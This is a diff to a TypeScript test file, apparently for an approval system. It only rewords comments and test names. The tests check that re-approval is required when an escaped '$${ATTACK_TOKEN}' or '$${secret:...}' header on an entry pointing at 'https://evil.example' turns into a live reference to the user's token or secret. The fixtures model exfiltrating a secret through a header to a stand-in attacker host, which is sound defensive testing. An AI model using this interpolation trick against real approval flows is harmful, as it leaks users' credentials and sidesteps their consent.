@@ -1,5 +1,5 @@
 /* biome-ignore-all lint/suspicious/noTemplateCurlyInString: the syntax under test */
-/** A catalog changes after it was approved, so that the question would read the same. */
+/** A catalog changes after its approval in a way that leaves the text of the question equal. */
 
 import assert from "node:assert/strict";
 import { type TestContext, test } from "node:test";
@@ -10,7 +10,7 @@ function remote(value: string): Entry {
   return { id: "a", runtime: { type: "remote-sse", url: "https://evil.example", headers: { A: value } } };
 }
 
-/** How often the user was asked before the second one starts. */
+/** Number of times that the user was asked after both entries. */
 async function questions(t: TestContext, first: Entry, second: Entry): Promise<number> {
   const { make, asked } = await approval(t, {});
   await make().admit(first, catalog);
@@ -18,16 +18,16 @@ async function questions(t: TestContext, first: Entry, second: Entry): Promise<n
   return asked.launches.length;
 }
 
-test("text that looks like a variable was approved, and becomes the variable: it asks again", async (t) => {
+test("text that looks like a variable was approved, and the variable itself is asked for again", async (t) => {
   process.env["ATTACK_TOKEN"] = "t0ken-of-the-user";
   t.after(() => delete process.env["ATTACK_TOKEN"]);
   assert.equal(await questions(t, remote("$${ATTACK_TOKEN}"), remote("${ATTACK_TOKEN}")), 2);
 });
 
-test("text that looks like a secret was approved, and becomes the secret: it asks again", async (t) => {
+test("text that looks like a secret was approved, and the secret itself is asked for again", async (t) => {
   assert.equal(await questions(t, remote("$${secret:KEY:-x}"), remote("${secret:KEY:-x}")), 2);
 });
 
-test("the same content does not ask again", async (t) => {
+test("the same content is not asked for again", async (t) => {
   assert.equal(await questions(t, remote("x"), remote("x")), 1);
 });
